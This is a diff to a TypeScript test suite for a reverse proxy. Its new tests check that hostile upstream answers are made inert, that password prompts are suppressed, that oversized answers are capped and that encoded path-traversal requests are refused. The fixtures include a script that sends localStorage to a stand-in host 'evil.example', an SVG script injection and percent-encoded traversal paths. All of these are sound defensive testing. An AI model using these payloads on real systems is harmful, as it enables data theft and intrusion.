@@ -1,7 +1,8 @@
 import type { IncomingMessage, ServerResponse } from 'node:http';
-import { createServer } from 'node:http';
+import { createServer, request as httpRequest } from 'node:http';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { CONSOLE_CONFIG_PATH, orderServicePaths, sandboxPaths } from '../contract/paths.ts';
+import { MAX_PROXIED_ANSWER_BYTES } from './proxy.ts';
 import type { RunningServer } from './server.ts';
 import { startServer } from './server.ts';
 import { call } from '../sandbox/testing/http.ts';
@@ -17,15 +18,40 @@ interface Seen {
 }
 
 const seen: Seen[] = [];
-let reply: { status: number; contentType: string; body: string } = { status: 200, contentType: 'application/json', body: '{}' };
+interface Reply {
+  status: number;
+  contentType: string;
+  body: string;
+  headers?: Record<string, string>;
+  /** Sent chunked, without Content-Length: this many bytes of 'x'. */
+  streamBytes?: number;
+}
+let reply: Reply = { status: 200, contentType: 'application/json', body: '{}' };
 
 const upstream = createServer((req: IncomingMessage, res: ServerResponse) => {
   const chunks: Buffer[] = [];
   req.on('data', (chunk: Buffer) => chunks.push(chunk));
   req.on('end', () => {
     seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
-    res.writeHead(reply.status, { 'Content-Type': reply.contentType, 'X-Upstream-Secret': 'internal' });
-    res.end(reply.body);
+    res.writeHead(reply.status, { 'Content-Type': reply.contentType, 'X-Upstream-Secret': 'internal', ...reply.headers });
+    if (reply.streamBytes === undefined) {
+      res.end(reply.body);
+      return;
+    }
+    const chunk = Buffer.alloc(1024 * 1024, 'x');
+    let left = reply.streamBytes;
+    const more = () => {
+      while (left > 0) {
+        left -= chunk.length;
+        if (!res.write(chunk)) {
+          res.once('drain', more);
+          return;
+        }
+      }
+      res.end();
+    };
+    res.on('error', () => undefined);
+    more();
   });
 });
 
@@ -71,13 +97,72 @@ describe('proxy mode', () => {
 
   test.each([
     [401, 'application/json', '{"detail":"Invalid token."}'],
-    [404, 'text/html', '<h1>Not Found</h1>'],
     [409, 'application/json', '{"detail":"nope"}'],
-    [500, 'text/plain', 'upstream broke'],
-  ])('status %i from the service is returned as it is', async (status, contentType, text) => {
+    [400, 'application/problem+json; charset=utf-8', '{"title":"bad"}'],
+  ])('status %i with JSON from the service is returned as it is', async (status, contentType, text) => {
     reply = { status, contentType, body: text };
     const result = await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' });
     expect([result.status, result.headers.get('content-type'), result.text]).toEqual([status, contentType, text]);
+    expect(result.headers.get('content-disposition')).toBeNull();
+    expect(result.headers.get('cache-control')).toBe('no-store');
+  });
+
+  test.each([
+    [200, 'text/html', '<script src="/psp/v2/order/x/"></script><h1>steal localStorage</h1>'],
+    [404, 'text/html; charset=utf-8', '<h1>Not Found</h1>'],
+    [200, 'application/javascript', 'fetch("https://evil.example/?" + JSON.stringify(localStorage))'],
+    [500, 'text/plain', 'upstream broke'],
+    [200, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
+  ])('status %i with %s from the service: the text comes back as an inert download, never a page or a script (issue 23 #2)', async (status, contentType, text) => {
+    reply = { status, contentType, body: text };
+    const result = await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' });
+    expect([result.status, result.text]).toEqual([status, text]);
+    expect(result.headers.get('content-type')).toBe('text/plain; charset=utf-8');
+    expect(result.headers.get('content-disposition')).toMatch(/^attachment/);
+    expect(result.headers.get('x-content-type-options')).toBe('nosniff');
+    // Both policies are enforced: ours, and the sandbox one that gives the answer no origin at all.
+    expect(result.headers.get('content-security-policy')).toContain("sandbox; default-src 'none'");
+    expect(result.headers.get('content-security-policy')).toContain("script-src 'self'");
+  });
+
+  test('a Basic or Digest challenge never reaches the browser (it would prompt for a password); a Token one does', async () => {
+    for (const challenge of ['Basic realm="orders"', 'Digest realm="x", nonce="1"', 'Token, Basic realm="x"']) {
+      reply = { status: 401, contentType: 'application/json', body: '{"detail":"no"}', headers: { 'WWW-Authenticate': challenge } };
+      const result = await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' });
+      expect(result.status).toBe(401);
+      expect(result.headers.get('www-authenticate'), challenge).toBeNull();
+    }
+    reply = { status: 401, contentType: 'application/json', body: '{"detail":"no"}', headers: { 'WWW-Authenticate': 'Token' } };
+    expect((await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' })).headers.get('www-authenticate')).toBe('Token');
+  });
+
+  test('an answer over the cap is a 502, not held in memory whole (issue 23 #11), with or without a Content-Length', async () => {
+    const path = orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962');
+    reply = { status: 200, contentType: 'application/json', body: '', streamBytes: MAX_PROXIED_ANSWER_BYTES + 2 * 1024 * 1024 };
+    const streamed = await call(proxy.url, 'GET', path, { token: 't' });
+    expect(streamed.status).toBe(502);
+    expect(streamed.json).toEqual({ detail: `Order service answer larger than ${MAX_PROXIED_ANSWER_BYTES} bytes`, code: 'bad_gateway' });
+    reply = { status: 200, contentType: 'application/json', body: 'x'.repeat(MAX_PROXIED_ANSWER_BYTES + 1) };
+    expect((await call(proxy.url, 'GET', path, { token: 't' })).status).toBe(502);
+    reply = { status: 200, contentType: 'application/json', body: `"${'x'.repeat(MAX_PROXIED_ANSWER_BYTES - 2)}"` };
+    expect((await call(proxy.url, 'GET', path, { token: 't' })).status).toBe(200);
+  });
+
+  test('a path hiding a separator or a dot segment in percent-escapes is not forwarded (issue 23)', async () => {
+    const count = seen.length;
+    for (const path of ['/psp/v2/order/..%2f..%2fadmin/', '/psp/v2/order/%2e%2e/%2e%2e/admin', '/psp/v2/order/..%5Cadmin', '/psp/v2/%2E%2E%2Fadmin', '/psp/v2/order/x%00/']) {
+      const result = await new Promise<number>((resolve, reject) => {
+        const url = new URL(proxy.url);
+        const req = httpRequest({ host: url.hostname, port: url.port, path, headers: { Authorization: 'Token t' } }, (res) => {
+          res.resume();
+          resolve(res.statusCode ?? 0);
+        });
+        req.on('error', reject);
+        req.end();
+      });
+      expect(result, path).toBe(404);
+    }
+    expect(seen.length).toBe(count);
   });
 
   test('the sandbox routes are off', async () => {
